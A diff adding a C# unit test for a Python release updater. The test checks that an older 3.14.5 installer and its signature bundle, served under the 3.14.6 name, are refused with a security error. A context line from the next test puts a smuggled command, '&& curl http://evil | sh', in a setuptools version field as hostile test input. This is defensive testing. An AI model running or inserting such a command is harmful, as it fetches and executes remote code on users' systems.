@@ -229,6 +229,36 @@ versions:
         }
 
         [Fact]
+        public async System.Threading.Tasks.Task AnOlderReleasesInstallerWithItsBundleUnderTheNewNameIsRefused()
+        {
+            // 3.14.5's genuine installer and bundle as 3.14.6's, with a matrix at 3.14.4 (no checksum of 3.14.5 to give it away)
+            using var client = new System.Net.Http.HttpClient();
+            byte[] installer = await client.GetByteArrayAsync(f.PythonOrgUri + "ftp/python/3.14.5/python-3.14.5-amd64.exe");
+            byte[] bundle = await client.GetByteArrayAsync(f.PythonOrgUri + "ftp/python/3.14.5/python-3.14.5-amd64.exe.sigstore");
+            f.Overrides["/ftp/python/3.14.6/python-3.14.6-amd64.exe"] = _ => new FixtureResponse { Body = installer };
+            f.Overrides["/ftp/python/3.14.6/python-3.14.6-amd64.exe.sigstore"] = _ => new FixtureResponse { Body = bundle, ContentType = "application/json" };
+            string at3144 = matrix.Replace("version: 3.14.5", "version: 3.14.4", StringComparison.Ordinal)
+                .Replace(Sha("3.14.5"), new string('4', 64), StringComparison.Ordinal).Replace(Win("3.14.5"), new string('5', 64), StringComparison.Ordinal);
+            File.WriteAllText(matrixPath, at3144);
+
+            var r = Update("-VersionKey 3.14 -PassThru");
+            var e = Assert.Single(r.Errors);
+            Assert.Equal("Update.ReleaseContentMismatch", e.FullyQualifiedErrorId.Split(',')[0]);
+            Assert.Equal(ErrorCategory.SecurityError, e.CategoryInfo.Category);
+            Assert.Equal("3.14", e.TargetObject);
+            Assert.Contains("but its version resource says 3.14.5150.0, the file version of the installer of 3.14.5, while the installer of 3.14.6 carries the file version 3.14.6150.*", e.Exception.Message, StringComparison.Ordinal);
+            Assert.False(string.IsNullOrEmpty(e.ErrorDetails?.RecommendedAction));
+            Assert.Empty(r.Output);
+            Assert.Equal(at3144, File.ReadAllText(matrixPath));
+
+            // the genuine installer passes and its checksum is written
+            f.Overrides.Clear();
+            var ok = Update("-VersionKey 3.14");
+            Assert.Empty(ok.AllErrors);
+            Assert.Contains("windows: {sha256: " + Win("3.14.6") + "}", File.ReadAllText(matrixPath));
+        }
+
+        [Fact]
         public void HostileValuesNeverReachTheFile()
         {
             f.Releases.Single(x => x.Version == "3.11.15").Setuptools = "79.0.1 && curl http://evil | sh";
